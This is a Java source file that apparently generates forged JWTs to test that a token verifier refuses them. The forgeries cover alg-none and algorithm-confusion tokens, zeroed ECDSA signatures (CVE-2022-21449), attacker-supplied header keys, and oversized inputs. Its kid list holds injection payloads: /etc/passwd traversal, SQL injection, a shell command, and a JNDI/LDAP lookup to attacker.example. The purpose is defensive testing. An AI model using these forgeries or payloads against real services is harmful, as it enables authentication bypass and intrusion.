package dev.grantwise.protocol.jose;

import static java.nio.charset.StandardCharsets.UTF_8;

import dev.grantwise.protocol.jose.RefusedJwt.Reason;
import dev.grantwise.protocol.json.JsonObject;
import java.util.ArrayList;
import java.util.List;

/**
 * Attacks A38 to A40 and A63 on a reader of JWTs, each made from one that it takes.
 *
 * <p>For readers that know their keys beforehand; for those that take the key from the header
 * {@link ProofAttacks}, which begins with what both have in common.
 */
public final class JwtAttacks {

  private final Forger forger;
  private final SigningKey own;
  private final SigningKey strangers = SigningKey.generate(SigningAlgorithm.ES256);
  private final List<JwtAttack> attacks = new ArrayList<>();

  private JwtAttacks(String genuine, SigningKey own) {
    this.forger = new Forger(genuine);
    this.own = own;
  }

  /** Every attack on a reader of that token, which its key signed by ES256. */
  public static List<JwtAttack> on(String genuine, TrustedKeys keys) {
    JwtAttacks made = new JwtAttacks(genuine, keys.own());
    made.shared();
    made.keysOfOtherAlgorithms(keys);
    made.names();
    made.keysInTheHeader();
    return List.copyOf(made.attacks);
  }

  /** Those that need nothing of the reader's keys but the one that signed. */
  static List<JwtAttack> shared(String genuine, SigningKey own) {
    JwtAttacks made = new JwtAttacks(genuine, own);
    made.shared();
    return made.attacks;
  }

  private void shared() {
    unsigned();
    signatures();
    demands();
    repetitions();
    shapes();
  }

  /** RFC 8725 2.1, 3.1, 3.2. */
  private void unsigned() {
    String sound = forger.signed(header().encode(), own);
    String signature = sound.substring(sound.lastIndexOf('.') + 1);
    add("A38", "alg none without a signature", alg("none") + ".", Reason.MALFORMED);
    for (String none : List.of("none", "None", "NONE", "nOnE", " none", "")) {
      add(
          "A38",
          "alg '" + none + "' with the signature left on",
          alg(none) + "." + signature,
          Reason.ALGORITHM_NOT_ALLOWED);
    }
    String bare = forger.input(header().without("alg").encode());
    add("A38", "no alg", bare + "." + signature, Reason.ALGORITHM_NOT_ALLOWED);
    for (String other : List.of("es256", "ES384", "ES512", "ES256K", "RS1", "HS512", "RSA1_5")) {
      add("A38", "alg " + other, alg(other) + "." + signature, Reason.ALGORITHM_NOT_ALLOWED);
    }
    String input = alg("HS256");
    add(
        "A38",
        "HS256 keyed by the JWK that is published",
        Forger.maced(input, own.verificationKey().toJson().encode().getBytes(UTF_8)),
        Reason.ALGORITHM_NOT_ALLOWED);
  }

  /** CVE-2022-21449 and its relatives. */
  private void signatures() {
    String input = forger.input(header().encode());
    byte[] sound = own.sign(input);
    wrong("ES256 signature of zeros", input, new byte[64]);
    wrong("ES256 signature whose r is zero", input, Forger.wiped(sound, 0));
    wrong("ES256 signature whose s is zero", input, Forger.wiped(sound, 32));
    wrong("ES256 signature of the curve's order", input, Forger.orderTwice());
    wrong("ES256 signature in ASN.1", input, Forger.asn1(sound));
    wrong("ES256 signature of one byte", input, new byte[1]);
    wrong("signature on P-384", input, onCurve("secp384r1", "SHA384", input));
    wrong("signature on P-521", input, onCurve("secp521r1", "SHA512", input));
    wrong("signature by another key of P-256", input, onCurve("secp256r1", "SHA256", input));
    String other = JsonObject.parse(forger.claims()).orThrow().with("sub", "admin").encode();
    wrong("other claims under the signature", Forger.input(header().encode(), other), sound);
  }

  /** RFC 7515 4.1.11, RFC 7797, RFC 7516 4.1.3. */
  private void demands() {
    for (String more :
        List.of(
            "\"b64\":false,\"crit\":[\"b64\"]",
            "\"b64\":false",
            "\"b64\":true",
            "\"crit\":[\"exp\"]",
            "\"crit\":[\"https://attacker.example/\"]",
            "\"crit\":[]",
            "\"crit\":null",
            "\"zip\":\"DEF\"")) {
      add("A38", "header with " + more, forger.signed(more(more), own), Reason.UNSUPPORTED_HEADER);
    }
    String unencoded = header().with("b64", false).with("crit", List.of("b64")).encode();
    String plain = Bytes.base64Url(unencoded.getBytes(UTF_8)) + "." + forger.claims();
    add("A38", "payload left plain by b64", Forger.with(plain, own.sign(plain)), Reason.MALFORMED);
  }

  /** RFC 8725 2.6, 3.8: which of two members counts is what two parsers disagree about. */
  private void repetitions() {
    for (String more :
        List.of(
            "\"alg\":\"none\"",
            "\"alg\":\"ES256\"",
            "\"\\u0061lg\":\"none\"",
            "\"typ\":\"JWT\"",
            "\"x\":1,\"x\":2")) {
      String token = forger.signed(more(more), own);
      add("A38", "header that repeats " + more, token, Reason.MALFORMED);
    }
    for (String more : List.of("\"x\":1,\"x\":1", "\"x\":{\"y\":1,\"y\":2}")) {
      String claims = spliced(forger.claims(), more);
      String token = Forger.signed(header().encode(), claims, own);
      add("A38", "claims that repeat " + more, token, Reason.MALFORMED);
    }
  }

  /** RFC 7515 7.2; attack A63: the size is looked at before anything else is. */
  private void shapes() {
    String sound = forger.signed(header().encode(), own);
    String json = "{\"payload\":\"e30\",\"signatures\":[]}";
    add("A38", "JSON serialisation", json, Reason.MALFORMED);
    add("A38", "five parts, as of a JWE", sound + ".AAAA.AAAA", Reason.MALFORMED);
    add("A38", "padded signature", sound + "==", Reason.MALFORMED);
    add("A63", "JWT of 100 kB", sound + "A".repeat(100_000), Reason.MALFORMED);
    String deep = "\"x\":" + "[".repeat(500) + "]".repeat(500);
    add("A63", "header 500 levels deep", forger.signed(more(deep), own), Reason.MALFORMED);
    String claims = Forger.signed(header().encode(), spliced(forger.claims(), deep), own);
    add("A63", "claims 500 levels deep", claims, Reason.MALFORMED);
  }

  /** RFC 8725 3.1: one key, one algorithm. */
  private void keysOfOtherAlgorithms(TrustedKeys keys) {
    String rsa = header().with("kid", keys.rsa().id().value()).encode();
    String mac = header().with("kid", keys.rsa().id().value()).with("alg", "HS256").encode();
    keys.spellingsOfRsa()
        .forEach(
            (spelling, bytes) ->
                add(
                    "A38",
                    "HS256 keyed by the RSA public key as " + spelling,
                    Forger.maced(forger.input(mac), bytes),
                    Reason.ALGORITHM_NOT_ALLOWED));
    add(
        "A38",
        "ES256 under the name of the RSA key",
        forger.signed(rsa, own),
        Reason.KEY_OF_OTHER_ALGORITHM);
    String es = header().with("alg", "RS256").encode();
    add(
        "A38",
        "RS256 under the name of the key on P-256",
        forger.signed(es, keys.rsa()),
        Reason.KEY_OF_OTHER_ALGORITHM);
  }

  /** RFC 8725 3.10: a name is looked up among the keys in memory, and that is all. */
  private void names() {
    for (String kid :
        List.of(
            "../../../../dev/null",
            "/etc/passwd",
            "file:///dev/null",
            "' OR '1'='1",
            "x' UNION SELECT 'QUJD' --",
            "https://attacker.example/key.pem",
            "key; cat /etc/passwd",
            "${jndi:ldap://attacker.example/a}",
            own.id().value() + " ",
            own.id().value().toLowerCase(java.util.Locale.ROOT) + "\u0131")) {
      add("A39", "kid " + kid, named(JsonObject.EMPTY.with("x", kid)), Reason.UNKNOWN_KEY);
    }
    add("A39", "kid of 10 kB", named(text("k".repeat(10_000))), Reason.MALFORMED);
    add("A39", "empty kid", named(text("")), Reason.MALFORMED);
    add("A39", "kid with a NUL", named(text(own.id().value() + "\u0000")), Reason.MALFORMED);
    for (String value : List.of("7", "null", "{}", "[\"" + own.id() + "\"]")) {
      String token = named(JsonObject.parse("{\"x\":" + value + "}").orThrow());
      add("A39", "kid " + value, token, Reason.MALFORMED);
    }
    String unnamed = forger.signed(header().without("kid").encode(), own);
    add("A39", "no kid where two keys fit", unnamed, Reason.AMBIGUOUS_KEY);
    String twice = forger.signed(more("\"kid\":\"" + strangers.id() + "\""), own);
    add("A39", "two kids", twice, Reason.MALFORMED);
  }

  /** RFC 8725 3.10: the forger's key travels with the forger's token. */
  private void keysInTheHeader() {
    String jwk = strangers.verificationKey().toJson().encode();
    for (String brought :
        List.of(
            "\"jwk\":" + jwk,
            "\"jku\":\"http://127.0.0.1:9/jwks\"",
            "\"x5u\":\"http://127.0.0.1:9/certificate\"",
            "\"x5c\":[\"MIIBBjCBrAIBAjAKBggqhkjOPQQDAg==\"]",
            "\"x5t\":\"AAAA\",\"x5t#S256\":\"AAAA\"",
            "\"jwk\":" + jwk + ",\"jku\":\"http://127.0.0.1:9/jwks\"")) {
      String what = String.join(" and ", JsonObject.parse("{" + brought + "}").orThrow().names());
      String ours = forger.signed(more(brought), strangers);
      add("A40", what + " of the forger under our kid", ours, Reason.WRONG_SIGNATURE);
      String theirs = spliced(header().with("kid", strangers.id().value()).encode(), brought);
      add(
          "A40",
          what + " of the forger under the forger's kid",
          forger.signed(theirs, strangers),
          Reason.UNKNOWN_KEY);
    }
  }

  private JsonObject header() {
    return forger.header();
  }

  private String alg(String value) {
    return forger.input(header().with("alg", value).encode());
  }

  /** The genuine header with more at its end. */
  private String more(String members) {
    return spliced(header().encode(), members);
  }

  private static String spliced(String object, String members) {
    return object.substring(0, object.length() - 1) + "," + members + "}";
  }

  private static JsonObject text(String kid) {
    return JsonObject.EMPTY.with("x", kid);
  }

  /** Under a kid that is the member {@code x} of that object. */
  private String named(JsonObject kid) {
    String header = spliced(header().without("kid").encode(), "\"kid\":" + kid.encode("x"));
    return forger.signed(header, own);
  }

  private static byte[] onCurve(String curve, String hash, String input) {
    return Forger.onCurve(curve, hash + "withECDSAinP1363Format", input);
  }

  private void wrong(String name, String input, byte[] signature) {
    add("A38", name, Forger.with(input, signature), Reason.WRONG_SIGNATURE);
  }

  private void add(String row, String name, String token, Reason reason) {
    attacks.add(new JwtAttack(row, name, token, reason));
  }
}
